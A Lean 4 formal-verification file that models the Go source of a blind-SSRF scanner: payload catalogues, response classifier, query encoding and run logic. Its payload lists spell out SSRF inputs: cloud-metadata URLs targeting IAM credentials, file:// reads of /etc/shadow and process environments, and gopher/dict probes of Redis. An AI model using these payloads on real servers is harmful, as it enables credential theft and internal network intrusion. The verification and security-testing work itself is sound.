import Mathlib

/-!
Verification development for the GoSSRF blind-SSRF scanner.

This file shallowly embeds the Go source of the repository (config/config.go,
payloads/payloads.go, scanner/url_builder.go, scanner/scan_manager.go together
with the detector and main packages) into Lean 4 and proves properties of the
embedded definitions.  Go strings are modelled either as Lean `String`
(character-level, faithful for the ASCII data the scanner manipulates) or, for
the query-encoding machinery of net/url where byte granularity matters, as
lists of byte values (`GoStr := List Nat`, each element a byte).  Machine
integers are modelled as `Nat` with explicit wrap-around (`% 2^32`) where Go's
4-byte IP arithmetic can overflow.
-/

set_option maxHeartbeats 2000000
set_option maxRecDepth 10000

/-! ## Character/string helpers modelling Go's `strings` package -/

/-- Does the list `pat` occur at the very front of `l`?  (Helper for
`strings.Contains`.) -/
def listStartsWith : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && listStartsWith as bs

/-- Does `pat` occur as a contiguous sublist of `l`?  (Helper for
`strings.Contains`.) -/
def hasSubstrList (pat : List Char) : List Char → Bool
  | [] => listStartsWith pat []
  | c :: cs => listStartsWith pat (c :: cs) || hasSubstrList pat cs

/-- Model of Go `strings.Contains(s, pat)`.  Go compares byte-wise; comparing
character-wise is equivalent on the ASCII keywords the scanner uses. -/
def goContains (s pat : String) : Bool :=
  hasSubstrList pat.data s.data

/-- Model of Go `strings.Contains(s, string(c))` for a single character
(also `strings.ContainsRune`). -/
def strHasChar (s : String) (c : Char) : Bool :=
  s.data.any (· == c)

/-- ASCII lower-casing of one character; models Go `strings.ToLower` on the
ASCII data the classifier handles (Go's full Unicode folding agrees on
ASCII). -/
def asciiLower (c : Char) : Char :=
  if 65 ≤ c.toNat ∧ c.toNat ≤ 90 then Char.ofNat (c.toNat + 32) else c

/-- Model of Go `strings.ToLower` (ASCII fragment). -/
def goToLower (s : String) : String :=
  ⟨s.data.map asciiLower⟩

/-- ASCII upper-casing of one character; models Go `strings.ToUpper` on ASCII
method names. -/
def asciiUpper (c : Char) : Char :=
  if 97 ≤ c.toNat ∧ c.toNat ≤ 122 then Char.ofNat (c.toNat - 32) else c

/-- Model of Go `strings.ToUpper` (ASCII fragment). -/
def goToUpper (s : String) : String :=
  ⟨s.data.map asciiUpper⟩

/-- Model of Go `len(s)`: Go counts bytes, which for a Lean string is its
UTF-8 byte size. -/
def goLen (s : String) : Nat :=
  s.utf8ByteSize

/-- Characters trimmed by Go `strings.TrimSpace` (the Latin-1 fragment of
Unicode White_Space, which covers the scanner's inputs). -/
def isGoSpace (c : Char) : Bool :=
  c.toNat == 32 || (9 ≤ c.toNat && c.toNat ≤ 13) || c.toNat == 133 || c.toNat == 160

/-- Model of Go `strings.TrimSpace`. -/
def goTrimSpace (s : String) : String :=
  ⟨((s.data.dropWhile isGoSpace).reverse.dropWhile isGoSpace).reverse⟩

/-- Model of the repository's `containsAny` helper (detector package):
case-insensitive containment of any of the substrings. -/
def containsAny (s : String) (substrs : List String) : Bool :=
  substrs.any (fun sub => goContains (goToLower s) (goToLower sub))

/-! ## payloads/payloads.go -/

/-- The `Payload` struct of the payloads package.  The Go field `Type` is
renamed `Typ` because `Type` is a Lean keyword. -/
structure Payload where
  Value : String
  Typ : String
  Description : String
  Severity : String
  Keywords : List String
deriving DecidableEq, Repr

/-- Embedding of `getServiceKeywordsByPort`: the static port→keywords table;
ports absent from the table yield the empty list (the Go map lookup misses
and the function returns `[]string{}`). -/
def getServiceKeywordsByPort (port : Nat) : List String :=
  match port with
  | 6379 => ["redis_version", "PONG", "role:master"]
  | 3306 => ["mysql", "MariaDB", "Access denied"]
  | 5432 => ["PostgreSQL", "FATAL", "password authentication"]
  | 27017 => ["MongoDB", "unauthorized", "errmsg"]
  | 9200 => ["cluster_name", "version", "tagline"]
  | 11211 => ["STAT", "version", "curr_connections"]
  | 2375 => ["Containers", "Images", "API version"]
  | 80 => ["HTTP/", "Server:", "Content-Type"]
  | 443 => ["HTTP/", "Server:", "Content-Type"]
  | 8080 => ["HTTP/", "Server:", "Content-Type"]
  | 8888 => ["HTTP/", "Server:", "Content-Type"]
  | _ => []

/-- Embedding of `determineSeverity`. -/
def determineSeverity (port : Nat) : String :=
  if port == 6379 || port == 3306 || port == 5432 || port == 27017 ||
     port == 9200 || port == 11211 || port == 2375 || port == 5000 then
    "high"
  else
    "medium"

/-- Embedding of `getPortDescription`. -/
def getPortDescription (port : Nat) : String :=
  match port with
  | 21 => "FTP - 文件传输协议"
  | 22 => "SSH - 安全Shell"
  | 23 => "Telnet - 远程登录"
  | 25 => "SMTP - 邮件服务"
  | 53 => "DNS - 域名服务"
  | 80 => "HTTP - Web服务"
  | 443 => "HTTPS - 安全Web服务"
  | 445 => "SMB - 文件共享"
  | 1433 => "MSSQL - SQL Server数据库"
  | 2375 => "Docker API - Docker远程API"
  | 3306 => "MySQL - MySQL数据库"
  | 3389 => "RDP - 远程桌面"
  | 5000 => "Docker Registry - Docker镜像仓库"
  | 5432 => "PostgreSQL - PostgreSQL数据库"
  | 5984 => "CouchDB - CouchDB数据库"
  | 6379 => "Redis - Redis缓存数据库"
  | 8080 => "HTTP - Web服务（备用端口）"
  | 8086 => "InfluxDB - InfluxDB时序数据库"
  | 8888 => "HTTP - Web服务（备用端口）"
  | 9000 => "FastCGI - FastCGI服务"
  | 9200 => "Elasticsearch - Elasticsearch搜索引擎"
  | 11211 => "Memcached - Memcached缓存"
  | 27017 => "MongoDB - MongoDB数据库"
  | _ => "端口 " ++ toString port

/-- The default high-risk port list of `GetPortScanPayloads` (port, service,
risk), in source order. -/
def highRiskPorts : List (Nat × String × String) :=
  [ (6379, "Redis", "未授权访问可导致数据泄露/命令执行"),
    (3306, "MySQL", "数据库未授权访问"),
    (5432, "PostgreSQL", "数据库未授权访问"),
    (27017, "MongoDB", "NoSQL数据库未授权访问"),
    (9200, "Elasticsearch", "未授权访问可导致数据泄露"),
    (11211, "Memcached", "缓存未授权访问"),
    (5984, "CouchDB", "数据库未授权访问"),
    (2375, "Docker API", "Docker未授权访问可导致容器逃逸"),
    (8086, "InfluxDB", "时序数据库未授权访问"),
    (9000, "FastCGI", "FastCGI未授权访问"),
    (5000, "Docker Registry", "Docker仓库未授权访问"),
    (8080, "Web服务", "常见Web服务端口"),
    (8888, "Web服务", "常见Web服务端口"),
    (80, "HTTP", "HTTP服务"),
    (443, "HTTPS", "HTTPS服务"),
    (22, "SSH", "SSH服务"),
    (21, "FTP", "FTP服务"),
    (3389, "RDP", "远程桌面"),
    (445, "SMB", "SMB文件共享") ]

/-- Description lookup used inside `GetPortScanPayloads`: Go builds a
`portDescriptions` map keyed by port.  For the custom-port branch it fills it
with `getPortDescription`; for the default branch with `"Service - Risk"`.
A miss yields the empty string, replaced by `"端口 %d"`. -/
def portDescLookup (descs : List (Nat × String)) (port : Nat) : String :=
  match descs.find? (fun pr => pr.1 == port) with
  | some pr => pr.2
  | none => ""

/-- The cloud-metadata payloads appended by `GetPortScanPayloads` when
`includeCloudMetadata` is true. -/
def cloudMetadataPayloads : List Payload :=
  [ { Value := "http://169.254.169.254/latest/meta-data/",
      Typ := "云元数据",
      Description := "AWS元数据接口 - 可能泄露云服务器凭证",
      Severity := "high",
      Keywords := ["ami-id", "instance-id", "security-credentials"] },
    { Value := "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
      Typ := "云元数据",
      Description := "AWS IAM凭证 - 可能泄露AccessKey",
      Severity := "high",
      Keywords := ["AccessKeyId", "SecretAccessKey", "Token"] },
    { Value := "http://metadata.google.internal/computeMetadata/v1/",
      Typ := "云元数据",
      Description := "Google Cloud元数据接口",
      Severity := "high",
      Keywords := ["instance", "project", "service-accounts"] },
    { Value := "http://100.100.100.200/latest/meta-data/",
      Typ := "云元数据",
      Description := "阿里云元数据接口",
      Severity := "high",
      Keywords := ["instance-id", "region-id"] } ]

/-- Embedding of `GetPortScanPayloads(internalIPs, customPorts,
includeCloudMetadata)`. -/
def GetPortScanPayloads (internalIPs : List String) (customPorts : List Nat)
    (includeCloudMetadata : Bool) : List Payload :=
  let portsToScan : List Nat :=
    if customPorts.length > 0 then customPorts else highRiskPorts.map (·.1)
  let portDescriptions : List (Nat × String) :=
    if customPorts.length > 0 then
      customPorts.map (fun p => (p, getPortDescription p))
    else
      highRiskPorts.map (fun pr => (pr.1, pr.2.1 ++ " - " ++ pr.2.2))
  let targetIPs : List String :=
    if internalIPs.length > 0 then internalIPs else ["127.0.0.1", "localhost", "0.0.0.0"]
  let base :=
    targetIPs.flatMap (fun ip =>
      portsToScan.map (fun port =>
        let desc0 := portDescLookup portDescriptions port
        let desc := if desc0 == "" then "端口 " ++ toString port else desc0
        { Value := "http://" ++ ip ++ ":" ++ toString port,
          Typ := "端口扫描",
          Description := ip ++ ":" ++ toString port ++ " - " ++ desc,
          Severity := determineSeverity port,
          Keywords := getServiceKeywordsByPort port }))
  if includeCloudMetadata then base ++ cloudMetadataPayloads else base

/-- Embedding of `GetFileReadPayloads`. -/
def GetFileReadPayloads : List Payload :=
  [ { Value := "file:///etc/passwd", Typ := "文件读取",
      Description := "读取Linux系统用户文件", Severity := "high",
      Keywords := ["root:", "bin:", "daemon:", "nobody:"] },
    { Value := "file:///etc/shadow", Typ := "文件读取",
      Description := "读取Linux密码哈希文件", Severity := "high",
      Keywords := ["root:", "$6$", "$5$"] },
    { Value := "file:///etc/hosts", Typ := "文件读取",
      Description := "读取hosts文件", Severity := "medium",
      Keywords := ["localhost", "127.0.0.1"] },
    { Value := "file:///proc/self/environ", Typ := "文件读取",
      Description := "读取进程环境变量", Severity := "high",
      Keywords := ["PATH=", "HOME=", "USER="] },
    { Value := "file:///proc/self/cmdline", Typ := "文件读取",
      Description := "读取进程命令行", Severity := "medium",
      Keywords := ["python", "java", "node"] },
    { Value := "file:///c:/windows/win.ini", Typ := "文件读取",
      Description := "读取Windows配置文件", Severity := "medium",
      Keywords := ["[fonts]", "[extensions]", "for 16-bit app support"] },
    { Value := "file:///c:/windows/system32/drivers/etc/hosts", Typ := "文件读取",
      Description := "读取Windows hosts文件", Severity := "medium",
      Keywords := ["localhost", "127.0.0.1"] },
    { Value := "dict://127.0.0.1:6379/info", Typ := "协议探测",
      Description := "Dict协议探测Redis", Severity := "high",
      Keywords := ["redis_version", "tcp_port", "role:"] },
    { Value := "gopher://127.0.0.1:6379/_INFO", Typ := "协议探测",
      Description := "Gopher协议探测Redis", Severity := "high",
      Keywords := ["redis_version", "tcp_port"] } ]

/-- Embedding of `GetOOBPayloads(oobServer)`. -/
def GetOOBPayloads (oobServer : String) : List Payload :=
  if oobServer == "" then []
  else
    [ { Value := oobServer ++ "/callback?id=http-test", Typ := "OOB检测",
        Description := "HTTP回连测试", Severity := "high", Keywords := [] },
      { Value := oobServer ++ "/callback?id=https-test", Typ := "OOB检测",
        Description := "HTTPS回连测试", Severity := "high", Keywords := [] } ]

/-! ## detector package: the response classifier -/

/-- The parts of an `*http.Response` the classifier reads: the status code and
the `Server` header (`resp.Header.Get("Server")`, empty string when absent). -/
structure HTTPResp where
  StatusCode : Nat
  ServerHeader : String
deriving DecidableEq, Repr

/-- The fixed sensitive-token list of classifier rule 3. -/
def sensitiveKeywords : List String :=
  [ "root:", "password", "secret", "token", "api_key",
    "localhost", "127.0.0.1", "private", "internal",
    "AccessKeyId", "SecretAccessKey" ]

/-- Rule 3's scan: the first sensitive token contained (case-insensitively) in
the body. -/
def sensitiveMatch (body : String) : Option String :=
  sensitiveKeywords.find? (fun k => goContains (goToLower body) (goToLower k))

/-- Embedding of `Detector.analyzeResponse(resp, body, payload)`.  The nested
`if` blocks of the source are flattened into one guard chain; each guard is
the conjunction of the conditions on the source path that reaches the
corresponding `return`, and the fall-through order is preserved exactly. -/
def analyzeResponse (resp : HTTPResp) (body : String) (payload : Payload) :
    Bool × String :=
  -- rule 1: keyword match (the source guards the loop with len(Keywords) > 0,
  -- which is equivalent to find? on the possibly-empty list)
  match payload.Keywords.find? (fun keyword => goContains body keyword) with
  | some keyword => (true, "响应中包含特征关键字: " ++ keyword)
  | none =>
    -- rule 2: status 200 with category-specific shape
    if resp.StatusCode == 200 && payload.Typ == "端口扫描" && goLen body > 0 &&
       (goContains body "HTTP/" || goContains body "Server:" || goContains body "<html") then
      (true, "成功访问内网HTTP服务")
    else if resp.StatusCode == 200 && payload.Typ == "端口扫描" && goLen body > 0 &&
       containsAny body ["redis", "mysql", "MongoDB", "Elasticsearch"] then
      (true, "检测到内网服务特征")
    else if resp.StatusCode == 200 && payload.Typ == "文件读取" && goLen body > 50 then
      (true, "可能成功读取文件，响应长度: " ++ toString (goLen body))
    else
      -- rule 3: long body scanned for sensitive tokens
      match if goLen body > 200 then sensitiveMatch body else none with
      | some keyword => (true, "响应中包含敏感信息: " ++ keyword)
      | none =>
        -- rule 4: gated resource
        if resp.StatusCode == 401 || resp.StatusCode == 403 then
          (true, "状态码 " ++ toString resp.StatusCode ++ " - 资源存在但需要认证")
        -- rule 5: Server header fingerprint
        else if resp.ServerHeader != "" &&
            containsAny resp.ServerHeader ["Redis", "MySQL", "nginx", "Apache", "Microsoft"] then
          (true, "Server头泄露内网服务信息: " ++ resp.ServerHeader)
        -- rule 6: OOB probes
        else if payload.Typ == "OOB检测" &&
            (200 ≤ resp.StatusCode && resp.StatusCode < 400) then
          (true, "OOB请求已发送，请检查OOB服务器是否收到回连")
        else
          (false, "")

/-! ## scanner package: outcomes and the vulnerability tally -/

/-- The per-probe outcome data the aggregator consumes (subset of the Go
`ScanResult` plus the detector's error message). -/
structure ScanOutcome where
  statusCode : Nat
  responseLen : Nat
  vulnerable : Bool
  evidence : String
  errorMessage : String
deriving DecidableEq, Repr

/-- One `testPayload` visit to the shared counter: `vulnCount++` exactly when
the outcome is vulnerable (scan_manager.go, inside the mutex). -/
def tallyStep (c : Nat) (o : ScanOutcome) : Nat :=
  if o.vulnerable then c + 1 else c

/-- The final value of `ScanManager.vulnCount` after folding a list of
outcomes (initial value 0, as in `NewScanManager`). -/
def runTally (outs : List ScanOutcome) : Nat :=
  outs.foldl tallyStep 0

/-! ## Byte-level model of Go strings and net/url query handling

Go strings are byte slices; the query-encoding path of `net/url` operates on
bytes, so here strings are modelled as lists of byte values. -/

/-- A Go string viewed as its bytes. -/
abbrev GoStr := List Nat

/-- Convert a Lean string to its byte list.  For ASCII strings (all method
names, parameter names and payload values handled here) `Char.toNat` is the
UTF-8 byte. -/
def gs (s : String) : GoStr := s.data.map Char.toNat

/-- Is this byte left unescaped by Go `url.QueryEscape`?  (Alphanumerics and
`-`, `_`, `.`, `~`.) -/
def unreservedByte (b : Nat) : Bool :=
  (65 ≤ b && b ≤ 90) || (97 ≤ b && b ≤ 122) || (48 ≤ b && b ≤ 57) ||
  b == 45 || b == 95 || b == 46 || b == 126

/-- Upper-case hexadecimal digit byte for a value below 16 (Go escapes with
the digits `0123456789ABCDEF`). -/
def hexUpper (n : Nat) : Nat :=
  if n < 10 then 48 + n else 55 + n

/-- Escape one byte as `url.QueryEscape` does: unreserved bytes stay, space
becomes `+` (byte 43), everything else becomes `%XX`. -/
def escByte (b : Nat) : List Nat :=
  if unreservedByte b then [b]
  else if b == 32 then [43]
  else [37, hexUpper (b / 16), hexUpper (b % 16)]

/-- Model of Go `url.QueryEscape`. -/
def escList : GoStr → GoStr
  | [] => []
  | b :: rest => escByte b ++ escList rest

/-- Value of a hexadecimal digit byte (both cases), as accepted by Go's
percent-decoder. -/
def unhex (b : Nat) : Option Nat :=
  if 48 ≤ b ∧ b ≤ 57 then some (b - 48)
  else if 65 ≤ b ∧ b ≤ 70 then some (b - 55)
  else if 97 ≤ b ∧ b ≤ 102 then some (b - 87)
  else none

/-- Model of Go `url.QueryUnescape`: `%XX` decodes (or the whole unescape
fails), `+` becomes space, other bytes pass through. -/
def queryUnescape : GoStr → Option GoStr
  | [] => some []
  | b :: rest =>
    if b = 37 then
      match rest with
      | h1 :: h2 :: rest2 =>
        match unhex h1, unhex h2 with
        | some a, some c => (queryUnescape rest2).map (fun r => (16 * a + c) :: r)
        | _, _ => none
      | _ => none
    else if b = 43 then (queryUnescape rest).map (fun r => 32 :: r)
    else (queryUnescape rest).map (fun r => b :: r)

/-- Model of Go `strings.Cut(s, sep)` for a one-byte separator: the part
before the first occurrence, the part after it, and whether it was found. -/
def goCut (sep : Nat) : GoStr → GoStr × GoStr × Bool
  | [] => ([], [], false)
  | b :: rest =>
    if b = sep then ([], rest, true)
    else
      let r := goCut sep rest
      (b :: r.1, r.2.1, r.2.2)

/-- One pass of Go `url.ParseQuery` (the loop body of `parseQuery`), with
explicit fuel; each iteration consumes at least one byte of the query, so
`length + 1` fuel always suffices.  Pairs whose segment contains `;`
(rejected since Go 1.17), empty segments, and pairs whose key or value fails
to unescape are skipped — `URL.Query()` drops the error and keeps the rest. -/
def parseQueryLoop : Nat → GoStr → List (GoStr × GoStr)
  | 0, _ => []
  | fuel + 1, query =>
    if query.isEmpty then []
    else
      let cutAmp := goCut 38 query
      let seg := cutAmp.1
      let tail := parseQueryLoop fuel cutAmp.2.1
      if seg.contains 59 then tail
      else if seg.isEmpty then tail
      else
        let cutEq := goCut 61 seg
        match queryUnescape cutEq.1, queryUnescape cutEq.2.1 with
        | some k, some v => (k, v) :: tail
        | _, _ => tail

/-- Model of `URL.Query()` = `url.ParseQuery(RawQuery)` with the error
ignored: the decoded key/value pairs in parse order. -/
def parseQueryPairs (s : GoStr) : List (GoStr × GoStr) :=
  parseQueryLoop (s.length + 1) s

/-- The slice `Values[k]`: all values parsed for key `k`, in order. -/
def vOf (ps : List (GoStr × GoStr)) (k : GoStr) : List GoStr :=
  (ps.filter (fun pr => pr.1 == k)).map Prod.snd

/-- Model of `Values.Set(key, value)`: all previous values of the key are
dropped and replaced by the single new value. -/
def valuesSet (ps : List (GoStr × GoStr)) (k v : GoStr) : List (GoStr × GoStr) :=
  ps.filter (fun pr => !(pr.1 == k)) ++ [(k, v)]

/-- Byte-wise lexicographic order on Go strings, as used by `sort.Strings`
inside `Values.Encode`. -/
def gsLe : GoStr → GoStr → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => if a < b then true else if b < a then false else gsLe as bs

/-- Insertion step of the key sort. -/
def insertKey (x : GoStr) : List GoStr → List GoStr
  | [] => [x]
  | y :: ys => if gsLe x y then x :: y :: ys else y :: insertKey x ys

/-- Sorting the key list (models `sort.Strings(keys)`; insertion sort is
extensionally the sorted permutation the Go sort produces). -/
def sortKeys : List GoStr → List GoStr
  | [] => []
  | x :: xs => insertKey x (sortKeys xs)

/-- The distinct keys of the Values map, sorted: Go ranges over the map (each
key once) and sorts. -/
def encodeKeys (ps : List (GoStr × GoStr)) : List GoStr :=
  sortKeys (ps.map Prod.fst).dedup

/-- The canonical pair sequence `Values.Encode` walks: for every sorted key,
its values in stored order. -/
def canonPairs (ps : List (GoStr × GoStr)) : List (GoStr × GoStr) :=
  (encodeKeys ps).flatMap (fun k => (vOf ps k).map (fun v => (k, v)))

/-- One `key=value` component of the encoded query. -/
def mkComp (pr : GoStr × GoStr) : GoStr :=
  escList pr.1 ++ 61 :: escList pr.2

/-- Join components with `&` (byte 38), as `Values.Encode`'s buffer does. -/
def joinAmp : List GoStr → GoStr
  | [] => []
  | [c] => c
  | c :: cs => c ++ 38 :: joinAmp cs

/-- Model of `Values.Encode`: sorted keys, each value escaped, joined with
`&`. -/
def valuesEncode (ps : List (GoStr × GoStr)) : GoStr :=
  joinAmp ((canonPairs ps).map mkComp)

/-- The components of a parsed `*url.URL` that `buildTestURL` can touch.  The
base URL is modelled after the successful `url.Parse` the code performs
(`Config.Validate` has already parsed the same string); `URL.String`
serialization is not modelled. -/
structure GoURL where
  scheme : GoStr
  host : GoStr
  path : GoStr
  rawQuery : GoStr
  fragment : GoStr
deriving DecidableEq, Inhabited

/-- Embedding of `buildTestURL` (scanner/url_builder.go): parse the query,
`Set` the tested parameter to the payload, re-encode.  Only `RawQuery`
changes. -/
def buildTestURL (u : GoURL) (paramName payload : GoStr) : GoURL :=
  { u with rawQuery := valuesEncode (valuesSet (parseQueryPairs u.rawQuery) paramName payload) }

/-- Embedding of `buildTestBody`: a fresh `url.Values` with the single pair,
encoded. -/
def buildTestBody (paramName payload : GoStr) : GoStr :=
  valuesEncode (valuesSet [] paramName payload)

/-- The error `buildTestRequest` returns for an unsupported method
(`fmt.Errorf("不支持的HTTP方法: %s", method)` with the upper-cased method). -/
inductive BuildErr where
  | unsupportedMethod (method : String)
deriving DecidableEq, Repr

/-- Embedding of `buildTestRequest(method, baseURL, paramName, payload)`:
GET builds a query URL with empty body; POST/PUT/PATCH keep the base URL and
build a form body; anything else is a per-probe error. -/
def buildTestRequest (method : String) (u : GoURL) (paramName payload : GoStr) :
    Except BuildErr (GoURL × GoStr) :=
  let m := goToUpper method
  if m == "GET" then .ok (buildTestURL u paramName payload, [])
  else if m == "POST" || m == "PUT" || m == "PATCH" then
    .ok (u, buildTestBody paramName payload)
  else .error (.unsupportedMethod m)

/-- Embedding of the HTTP-method check inside `Config.Validate` (lines
91–99): membership in the `validMethods` map after upper-casing. -/
def validateMethodOk (method : String) : Bool :=
  let m := goToUpper method
  m == "GET" || m == "POST" || m == "PUT" || m == "DELETE" ||
  m == "PATCH" || m == "HEAD" || m == "OPTIONS"

/-! ## Config record, transport results, and the per-probe pipeline -/

/-- The validated configuration record (config.Config).  `TargetURL` is
modelled in its parsed form (`Config.Validate` has already run `url.Parse` on
it); `InternalIPs` and `PortList` are the resolved lists Validate stores. -/
structure GoConfig where
  TargetURL : GoURL
  PayloadFile : String
  ParamName : String
  Method : String
  OOBServer : String
  InternalNet : String
  Ports : String
  ScanAll : Bool
  Threads : Nat
  Timeout : Nat
  DelayTime : Nat
  OutputFile : String
  CustomHeaders : List (String × String)
  InternalIPs : List String
  PortList : List Nat

/-- What one HTTP round trip produced: either a transport failure carrying
Go's error text, or a response (status, `Server` header, body). -/
inductive TransportResult where
  | failed (rawErr : String)
  | ok (status : Nat) (serverHeader : String) (body : String)

/-- The detector's mapping of transport errors to terse operator-facing
messages (`DetectWithMethod`). -/
def detectErrMsg (rawErr : String) : String :=
  if goContains rawErr "connection refused" then "连接被拒绝"
  else if goContains rawErr "timeout" then "请求超时"
  else if goContains rawErr "no such host" then "域名解析失败"
  else "请求失败: " ++ rawErr

/-- Embedding of `ScanManager.testPayload` composed with
`Detector.DetectWithMethod`, as the outcome it funnels to the aggregator.
`none` means `buildTestRequest` failed and the probe was silently skipped
(the early `return` in testPayload emits neither output nor a tally visit). -/
def testPayloadOutcome (cfg : GoConfig) (param : String) (p : Payload)
    (tr : TransportResult) : Option ScanOutcome :=
  match buildTestRequest cfg.Method cfg.TargetURL (gs param) (gs p.Value) with
  | .error _ => none
  | .ok _ =>
    match tr with
    | .failed rawErr =>
      some { statusCode := 0, responseLen := 0, vulnerable := false,
             evidence := "", errorMessage := detectErrMsg rawErr }
    | .ok status serverHeader body =>
      let r := analyzeResponse { StatusCode := status, ServerHeader := serverHeader } body p
      some { statusCode := status, responseLen := goLen body, vulnerable := r.1,
             evidence := r.2, errorMessage := "" }

/-- The observable actions of one probe's unit of work, in order.  The
vocabulary includes a sleep action so that its absence is expressible: no
statement in `testPayload`, `DetectWithMethod` or their callees sleeps. -/
inductive ProbeEvent where
  | sleepMs (millis : Nat)
  | printTestLine (line : String)
  | sendRequest
  | printError (line : String)
  | printVuln (line : String)
  | incTally
deriving DecidableEq, Repr

/-- Is the event a sleep? -/
def isSleepEvent : ProbeEvent → Bool
  | .sleepMs _ => true
  | _ => false

/-- Embedding of the action trace of `ScanManager.testPayload(param, payload)`
(scan_manager.go lines 168–215) with the HTTP round trip abstracted by `tr`:
build the request (silently dropping the probe on failure), print the
in-progress line, send, then print the error line and/or the vulnerability
line and bump the tally.  Translated statement by statement from the source,
which contains no sleep and never reads `cfg.DelayTime`. -/
def testPayloadEvents (cfg : GoConfig) (param : String) (p : Payload)
    (tr : TransportResult) : List ProbeEvent :=
  match buildTestRequest cfg.Method cfg.TargetURL (gs param) (gs p.Value) with
  | .error _ => []
  | .ok _ =>
    let errMsg := match tr with
      | .failed rawErr => detectErrMsg rawErr
      | .ok _ _ _ => ""
    let vulnerable := match tr with
      | .failed _ => false
      | .ok status serverHeader body =>
        (analyzeResponse { StatusCode := status, ServerHeader := serverHeader } body p).1
    [ProbeEvent.printTestLine ("[" ++ cfg.Method ++ "] 正在测试 " ++ p.Value ++ "\x0a"),
     ProbeEvent.sendRequest] ++
    (if errMsg != "" then [ProbeEvent.printError errMsg] else []) ++
    (if vulnerable then
       [ProbeEvent.printVuln (param ++ "=" ++ p.Value), ProbeEvent.incTally]
     else [])

/-! ## Run-level model: RunScan and main -/

/-- Modelled from the spec: `Config.ShouldScanDefaultPayloads` is referenced
by `RunScan`/`scanPorts` but its definition is not part of the provided
sources.  Per the spec's "expand all" flag and the `-i` flag's documented
behaviour (an internal-net target restricts the run to port scanning unless
`-all` is given), it holds when `-all` is set or no internal net was given. -/
def shouldScanDefaultPayloads (cfg : GoConfig) : Bool :=
  cfg.ScanAll || cfg.InternalNet == ""

/-- `Config.ShouldScanOOB`: an OOB server was configured. -/
def shouldScanOOB (cfg : GoConfig) : Bool :=
  cfg.OOBServer != ""

/-- The fixed probe catalog a default (non-dictionary) run dispatches, in
dispatch order: port-scan probes, then file-read probes, then OOB probes,
gated as in `RunScan`. -/
def defaultCatalog (cfg : GoConfig) : List Payload :=
  GetPortScanPayloads cfg.InternalIPs cfg.PortList (shouldScanDefaultPayloads cfg) ++
  (if shouldScanDefaultPayloads cfg then GetFileReadPayloads else []) ++
  (if shouldScanOOB cfg && shouldScanDefaultPayloads cfg then GetOOBPayloads cfg.OOBServer else [])

/-- The environment a run interacts with: the outcome of `Config.Validate`,
of creating the output file, of opening/reading the custom dictionary
(`loadCustomPayloads`), and the HTTP transport. -/
structure RunEnv where
  validateErr : Option String
  outputCreateErr : Option String
  dictResult : Except String (List Payload)
  transport : Payload → TransportResult

/-- Embedding of `ScanManager.RunScan`: the returned vulnerability count
paired with whether the dictionary-load failure line was printed.  With a
dictionary file configured, a load failure prints the red error line and
returns with the count still 0 (`scanWithCustomDict`'s early `return`);
otherwise every catalog probe flows through `testPayload`. -/
def runScanModel (cfg : GoConfig) (env : RunEnv) : Nat × Bool :=
  if cfg.PayloadFile != "" then
    match env.dictResult with
    | .error _ => (0, true)
    | .ok ps =>
      (runTally (ps.filterMap (fun p => testPayloadOutcome cfg cfg.ParamName p (env.transport p))), false)
  else
    (runTally ((defaultCatalog cfg).filterMap
      (fun p => testPayloadOutcome cfg cfg.ParamName p (env.transport p))), false)

/-- What a whole process run reported. -/
structure RunReport where
  exitCode : Nat
  vulnCount : Nat
  dictErrorPrinted : Bool
  summaryPrinted : Bool
deriving DecidableEq, Repr

/-- Embedding of `main` (main.go): validation failure or output-file creation
failure exit with status 1 before any scan; otherwise the scan runs to
completion, the summary line is printed, and the process ends with status 0.
`vulnCount` is the count the summary reports (0 when the process exited
early). -/
def mainModel (cfg : GoConfig) (env : RunEnv) : RunReport :=
  match env.validateErr with
  | some _ => { exitCode := 1, vulnCount := 0, dictErrorPrinted := false, summaryPrinted := false }
  | none =>
    if cfg.OutputFile != "" && env.outputCreateErr.isSome then
      { exitCode := 1, vulnCount := 0, dictErrorPrinted := false, summaryPrinted := false }
    else
      let r := runScanModel cfg env
      { exitCode := 0, vulnCount := r.1, dictErrorPrinted := r.2, summaryPrinted := true }

/-! ## config package: target-address parsing

IPv4 addresses are packed into a `Nat` below `2^32` (byte 0 is the most
significant, as in Go's 4-byte slice); Go's byte-wise mask/compare/increment
operations correspond to `Nat.land`, numeric comparison and `+1 % 2^32` on
the packed value. -/

/-- Is the character an ASCII digit? -/
def isDigitChar (c : Char) : Bool :=
  48 ≤ c.toNat && c.toNat ≤ 57

/-- Split a character list at every occurrence of `sep` (the separator is
dropped; adjacent separators yield empty fields). -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c == sep then [] :: splitOnChar sep cs
    else
      match splitOnChar sep cs with
      | [] => [[c]]
      | h :: t => (c :: h) :: t

/-- Model of Go `strings.Split(s, sep)` for the one-character separators the
config parser uses (`"-"`, `"."`, `"/"`, `","`). -/
def goSplit (s : String) (sep : Char) : List String :=
  (splitOnChar sep s.data).map (fun l => ⟨l⟩)

/-- Parse one dotted-quad field as Go's IPv4 parser does: 1–3 digits, value
at most 255, no leading zero (rejected since Go 1.17). -/
def parseOctet (s : String) : Option Nat :=
  if s.data.length == 0 ∨ s.data.length > 3 then none
  else if ¬ s.data.all isDigitChar then none
  else if s.data.length > 1 ∧ s.data.head? == some '0' then none
  else
    let v := s.data.foldl (fun acc c => acc * 10 + (c.toNat - 48)) 0
    if v ≤ 255 then some v else none

/-- Model of `net.ParseIP` restricted to IPv4 dotted-quad literals, returning
the packed address.  IPv6 literals (which `To4` would reject anyway, and
which cannot occur in the hostname character class) are modelled as parse
failures. -/
def goParseIPv4 (s : String) : Option Nat :=
  match goSplit s '.' with
  | [a, b, c, d] =>
    match parseOctet a, parseOctet b, parseOctet c, parseOctet d with
    | some x, some y, some z, some w => some (((x * 256 + y) * 256 + z) * 256 + w)
    | _, _, _, _ => none
  | _ => none

/-- Model of `net.IP.String()` for a 4-byte address: dotted decimal. -/
def ipString (ip : Nat) : String :=
  toString (ip / 16777216 % 256) ++ "." ++ toString (ip / 65536 % 256) ++ "." ++
  toString (ip / 256 % 256) ++ "." ++ toString (ip % 256)

/-- Embedding of `inc(ip)`: byte-wise increment with carry over the 4 bytes,
i.e. `+1` modulo `2^32` on the packed value. -/
def ipInc (ip : Nat) : Nat :=
  (ip + 1) % 2 ^ 32

